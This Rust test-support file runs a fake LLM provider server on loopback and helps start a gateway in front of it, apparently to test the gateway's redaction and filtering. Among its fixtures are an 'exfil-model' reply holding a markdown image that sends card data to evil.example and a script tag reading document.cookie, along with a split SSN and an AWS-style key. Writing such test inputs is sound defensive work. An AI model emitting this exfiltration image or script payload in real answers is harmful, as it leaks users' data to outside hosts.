//! A fake provider server that speaks each provider's wire format on loopback and records
//! every request it receives, and helpers to start a gateway in front of it.
#![allow(dead_code)]

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::{Request, Response};
use hyper_util::rt::{TokioExecutor, TokioIo};
use rampart_gateway::{Config, Gateway, Running};
use serde_json::{Value, json};

/// A valid SSN the upstream answers with (split across stream events).
pub const ANSWER_SSN: &str = "536-90-4399";

/// One request the upstream received.
#[derive(Clone, Debug)]
pub struct Seen {
    pub version: String,
    pub method: String,
    pub uri: String,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

impl Seen {
    /// Everything the upstream saw, as one string (for leak checks).
    pub fn all(&self) -> String {
        let mut s = format!("{} {}\n", self.method, self.uri);
        for (k, v) in &self.headers {
            s.push_str(&format!("{k}: {v}\n"));
        }
        s.push_str(&String::from_utf8_lossy(&self.body));
        s
    }
}

/// The fake upstream.
#[derive(Clone)]
pub struct Upstream {
    pub addr: SocketAddr,
    pub seen: Arc<Mutex<Vec<Seen>>>,
    /// A `slow-model` stream sends its first events, then waits for this before the rest.
    pub release: Arc<tokio::sync::Notify>,
}

impl Upstream {
    pub fn url(&self) -> String {
        format!("http://{}", self.addr)
    }

    pub fn requests(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }
}

/// Text pieces of a streamed answer: the SSN is split across events.
pub fn answer_pieces() -> Vec<&'static str> {
    vec![
        "Sure. The number on file is 53",
        "6-90-43",
        "99, and the rest is fine.",
    ]
}

fn sse(events: &[(Option<&str>, Value)], done: bool) -> String {
    let mut s = String::new();
    for (name, data) in events {
        if let Some(n) = name {
            s.push_str(&format!("event: {n}\n"));
        }
        s.push_str(&format!("data: {data}\n\n"));
    }
    if done {
        s.push_str("data: [DONE]\n\n");
    }
    s
}

/// Text pieces of the answer of `exfil-model`: a markdown image carrying data split across
/// events, and a script tag.
pub fn exfil_pieces() -> Vec<&'static str> {
    vec![
        "Here is your summary. ![loading](https://evil.exa",
        "mple/log?d=card%204111111111111111) Thanks! ",
        "<script>alert(document.cookie)</script> Done.",
    ]
}

/// The system prompt of a request (OpenAI, Anthropic or Gemini shape).
fn system_of(body: &Value) -> String {
    if let Some(s) = body["system"].as_str() {
        return s.to_owned();
    }
    if let Some(s) = body
        .pointer("/systemInstruction/parts/0/text")
        .and_then(Value::as_str)
    {
        return s.to_owned();
    }
    body["messages"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|m| m["role"] == "system")
        .filter_map(|m| m["content"].as_str())
        .collect::<Vec<_>>()
        .join("\n")
}

/// `text` in pieces of at most 7 bytes, cut at character boundaries.
fn small_pieces(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    for c in text.chars() {
        if cur.len() + c.len_utf8() > 7 {
            out.push(std::mem::take(&mut cur));
        }
        cur.push(c);
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// Text pieces of the answer of `leaky-model`: an AWS access key split across events.
pub fn leaky_pieces() -> Vec<&'static str> {
    vec![
        "Here are the deployment credentials: AKIA4HBW",
        "6E62M7NGFVGF with the secret in the vault, ",
        "and that is all you need.",
    ]
}

fn respond(path: &str, body: &Value) -> (u16, &'static str, String) {
    let stream = body.get("stream").and_then(Value::as_bool).unwrap_or(false)
        || path.contains(":streamGenerateContent");
    let pieces: Vec<String> = match body["model"].as_str() {
        Some("leaky-model") => leaky_pieces().into_iter().map(String::from).collect(),
        Some("exfil-model") => exfil_pieces().into_iter().map(String::from).collect(),
        Some("echo-system") => small_pieces(&system_of(body)),
        _ => answer_pieces().into_iter().map(String::from).collect(),
    };
    let answer_pieces = || pieces.clone();
    let full = answer_pieces().concat();
    if path.starts_with("/v1/chat/completions") {
        if stream {
            let mut events: Vec<(Option<&str>, Value)> = answer_pieces()
                .into_iter()
                .map(|p| (None, json!({"id":"chatcmpl-1","object":"chat.completion.chunk","created":1,"model":"gpt-4o-mini","choices":[{"index":0,"delta":{"content":p},"finish_reason":null}]})))
                .collect();
            events.push((None, json!({"id":"chatcmpl-1","object":"chat.completion.chunk","created":1,"model":"gpt-4o-mini","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]})));
            return (200, "text/event-stream", sse(&events, true));
        }
        let v = json!({"id":"chatcmpl-1","object":"chat.completion","created":1,"model":"gpt-4o-mini",
            "choices":[{"index":0,"message":{"role":"assistant","content":full},"finish_reason":"stop"}],
            "usage":{"prompt_tokens":12,"completion_tokens":9,"total_tokens":21}});
        return (200, "application/json", v.to_string());
    }
    if path.starts_with("/v1/messages") {
        if stream {
            let mut events: Vec<(Option<&str>, Value)> = vec![
                (
                    Some("message_start"),
                    json!({"type":"message_start","message":{"id":"msg_1","type":"message","role":"assistant","content":[],"model":"claude-3-5-haiku-latest","stop_reason":null,"stop_sequence":null,"usage":{"input_tokens":12,"output_tokens":1}}}),
                ),
                (
                    Some("content_block_start"),
                    json!({"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}),
                ),
            ];
            for p in answer_pieces() {
                events.push((Some("content_block_delta"), json!({"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":p}})));
            }
            events.push((
                Some("content_block_stop"),
                json!({"type":"content_block_stop","index":0}),
            ));
            events.push((Some("message_delta"), json!({"type":"message_delta","delta":{"stop_reason":"end_turn","stop_sequence":null},"usage":{"output_tokens":9}})));
            events.push((Some("message_stop"), json!({"type":"message_stop"})));
            return (200, "text/event-stream", sse(&events, false));
        }
        let v = json!({"id":"msg_1","type":"message","role":"assistant","model":"claude-3-5-haiku-latest",
            "content":[{"type":"text","text":full}],"stop_reason":"end_turn","stop_sequence":null,
            "usage":{"input_tokens":12,"output_tokens":9}});
        return (200, "application/json", v.to_string());
    }
    if path.contains(":generateContent") || path.contains(":streamGenerateContent") {
        let chunk = |t: &str| json!({"candidates":[{"content":{"parts":[{"text":t}],"role":"model"},"index":0}],"usageMetadata":{"promptTokenCount":12,"candidatesTokenCount":9}});
        if stream {
            let mut events: Vec<(Option<&str>, Value)> = answer_pieces()
                .into_iter()
                .map(|p| (None, chunk(&p)))
                .collect();
            let mut last = chunk("");
            last["candidates"][0]["finishReason"] = json!("STOP");
            events.push((None, last));
            return (200, "text/event-stream", sse(&events, false));
        }
        return (200, "application/json", chunk(&full).to_string());
    }
    if path.starts_with("/v2/chat") {
        if stream {
            let mut events: Vec<(Option<&str>, Value)> = vec![(
                Some("message-start"),
                json!({"type":"message-start","id":"c1","delta":{"message":{"role":"assistant"}}}),
            )];
            for p in answer_pieces() {
                events.push((Some("content-delta"), json!({"type":"content-delta","index":0,"delta":{"message":{"content":{"text":p}}}})));
            }
            events.push((Some("content-end"), json!({"type":"content-end","index":0})));
            events.push((Some("message-end"), json!({"type":"message-end","delta":{"finish_reason":"COMPLETE","usage":{"tokens":{"input_tokens":12,"output_tokens":9}}}})));
            return (200, "text/event-stream", sse(&events, false));
        }
        let v = json!({"id":"c1","finish_reason":"COMPLETE","message":{"role":"assistant","content":[{"type":"text","text":full}]},
            "usage":{"tokens":{"input_tokens":12,"output_tokens":9}}});
        return (200, "application/json", v.to_string());
    }
    // an API route: echo what arrived
    (200, "application/json", json!({"echo": body}).to_string())
}

/// Starts the fake upstream on a loopback port.
pub async fn upstream() -> Upstream {
    upstream_with(None).await
}

/// Starts the fake upstream, over TLS (ALPN h2 and http/1.1) when an acceptor is given.
pub async fn upstream_with(tls: Option<tokio_rustls::TlsAcceptor>) -> Upstream {
    let seen: Arc<Mutex<Vec<Seen>>> = Arc::default();
    let release = Arc::new(tokio::sync::Notify::new());
    let gate = release.clone();
    let rec = seen.clone();
    let addr = serve(tls, move |parts, body| {
        rec.lock().unwrap().push(Seen {
            version: format!("{:?}", parts.version),
            method: parts.method.to_string(),
            uri: parts.uri.to_string(),
            headers: parts
                .headers
                .iter()
                .map(|(k, v)| {
                    (
                        k.to_string(),
                        String::from_utf8_lossy(v.as_bytes()).into_owned(),
                    )
                })
                .collect(),
            body: body.to_vec(),
        });
        let json: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
        let gate = gate.clone();
        async move {
            if parts.uri.path() == "/api/chunked" {
                return chunked_text();
            }
            if json["model"] == "slow-model" {
                return slow_stream(gate);
            }
            let (status, ctype, text) = respond(parts.uri.path(), &json);
            Response::builder()
                .status(status)
                .header("content-type", ctype)
                .body(Full::new(Bytes::from(text)).map_err(|n| match n {}).boxed())
                .unwrap()
        }
    })
    .await;
    Upstream {
        addr,
        seen,
        release,
    }
}

/// Serves HTTP/1.1 and HTTP/2 on a new loopback port (over TLS when an acceptor is given):
/// every request's body is read whole, then `handle` answers it from the request head and
/// body. Returns the address.
pub async fn serve<F, Fut, B>(tls: Option<tokio_rustls::TlsAcceptor>, handle: F) -> SocketAddr
where
    F: Fn(http::request::Parts, Bytes) -> Fut + Clone + Send + Sync + 'static,
    Fut: std::future::Future<Output = Response<B>> + Send + 'static,
    B: hyper::body::Body + Send + 'static,
    B::Data: Send,
    B::Error: Into<Box<dyn std::error::Error + Send + Sync>>,
{
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let Ok((stream, _)) = listener.accept().await else {
                continue;
            };
            let handle = handle.clone();
            let tls = tls.clone();
            tokio::spawn(async move {
                let svc = hyper::service::service_fn(move |req: Request<hyper::body::Incoming>| {
                    let handle = handle.clone();
                    async move {
                        let (parts, body) = req.into_parts();
                        let body = body
                            .collect()
                            .await
                            .map(|b| b.to_bytes())
                            .unwrap_or_default();
                        Ok::<_, std::convert::Infallible>(handle(parts, body).await)
                    }
                });
                let builder = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new());
                match tls {
                    None => {
                        let _ = builder.serve_connection(TokioIo::new(stream), svc).await;
                    }
                    Some(acceptor) => {
                        if let Ok(stream) = acceptor.accept(stream).await {
                            let _ = builder.serve_connection(TokioIo::new(stream), svc).await;
                        }
                    }
                }
            });
        }
    });
    addr
}

/// A chunked `text/plain` answer with an SSN split across chunks.
fn chunked_text() -> Response<Boxed> {
    let (tx, body) = rampart_gateway::body::ChannelBody::new();
    tokio::spawn(async move {
        for piece in [
            "log line one\nuser ssn 53",
            "6-90-43",
            "99 logged\n",
            "log line three\n",
        ] {
            let _ = tx.send(Ok(Bytes::from(piece))).await;
            tokio::task::yield_now().await;
        }
    });
    Response::builder()
        .header("content-type", "text/plain")
        .body(body.boxed())
        .unwrap()
}

/// Text of the first events of a `slow-model` stream.
pub const SLOW_FIRST: [&str; 3] = [
    "Once upon a time, in a quiet ",
    "harbour town, there lived an old ",
    "sailor who loved the sea more than anything. ",
];

type Boxed = http_body_util::combinators::BoxBody<Bytes, rampart_gateway::body::BoxError>;

/// An OpenAI stream whose first events come at once and the rest only after `gate`.
fn slow_stream(gate: Arc<tokio::sync::Notify>) -> Response<Boxed> {
    let (tx, body) = rampart_gateway::body::ChannelBody::new();
    let event = |t: &str| {
        let v = json!({"id":"c2","object":"chat.completion.chunk","choices":[{"index":0,"delta":{"content":t},"finish_reason":null}]});
        Bytes::from(format!("data: {v}\n\n"))
    };
    tokio::spawn(async move {
        for t in SLOW_FIRST {
            let _ = tx.send(Ok(event(t))).await;
        }
        gate.notified().await;
        let _ = tx.send(Ok(event("The end."))).await;
        let done = json!({"id":"c2","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]});
        let _ = tx
            .send(Ok(Bytes::from(format!("data: {done}\n\ndata: [DONE]\n\n"))))
            .await;
    });
    Response::builder()
        .header("content-type", "text/event-stream")
        .body(body.boxed())
        .unwrap()
}

/// A gateway on loopback ports sending every provider and `/api` to `up`.
pub async fn gateway(
    up: &Upstream,
    dir: &std::path::Path,
    tweak: impl FnOnce(&mut Config),
) -> Running {
    gateway_to(&up.url(), dir, tweak).await
}

/// A gateway on loopback ports sending every provider and `/api` to the upstream at `url`.
pub async fn gateway_to(
    url: &str,
    dir: &std::path::Path,
    tweak: impl FnOnce(&mut Config),
) -> Running {
    let mut config = Config {
        listen: "127.0.0.1:0".parse().unwrap(),
        admin_listen: "127.0.0.1:0".parse().unwrap(),
        data_dir: dir.to_path_buf(),
        ..Config::default()
    };
    for p in ["openai", "anthropic", "gemini", "cohere"] {
        config.upstreams.insert(p.into(), url.to_owned());
    }
    config.routes.push(rampart_gateway::config::ApiRoute {
        name: None,
        prefix: "/api/".into(),
        upstream: url.to_owned(),
    });
    tweak(&mut config);
    let gw = Gateway::new(config).await.unwrap();
    gw.start().await.unwrap()
}

/// A plain HTTP/1.1 client call; returns status, headers and body.
pub async fn call(
    addr: SocketAddr,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: impl Into<Bytes>,
) -> (u16, http::HeaderMap, Vec<u8>) {
    let client = hyper_util::client::legacy::Client::builder(TokioExecutor::new())
        .build_http::<Full<Bytes>>();
    let mut req = Request::builder()
        .method(method)
        .uri(format!("http://{addr}{path}"));
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let resp = client
        .request(req.body(Full::new(body.into())).unwrap())
        .await
        .unwrap();
    let status = resp.status().as_u16();
    let headers = resp.headers().clone();
    let body = resp
        .into_body()
        .collect()
        .await
        .unwrap()
        .to_bytes()
        .to_vec();
    (status, headers, body)
}

/// The audit events in `dir`, once there are at least `n` (the writer thread flushes every
/// few milliseconds; waits up to 5 s).
#[allow(dead_code)]
pub async fn audit_events(dir: &std::path::Path, n: usize) -> Vec<Value> {
    let path = dir.join("audit.jsonl");
    for _ in 0..250 {
        let text = std::fs::read_to_string(&path).unwrap_or_default();
        let events: Vec<Value> = text
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect();
        if events.len() >= n {
            return events;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    panic!("fewer than {n} audit events in {}", path.display());
}

/// Writes `yaml` (policy documents) to a new file in `dir`; returns its path for
/// `config.policies`.
#[allow(dead_code)]
pub fn policy_file(dir: &std::path::Path, yaml: &str) -> std::path::PathBuf {
    static N: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
    let n = N.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    let path = dir.join(format!("policy-{n}.yaml"));
    std::fs::write(&path, yaml).unwrap();
    path
}

/// The shipped default policy's text.
#[allow(dead_code)]
pub fn default_policy() -> &'static str {
    rampart_gateway::policies::DEFAULT_POLICY
}
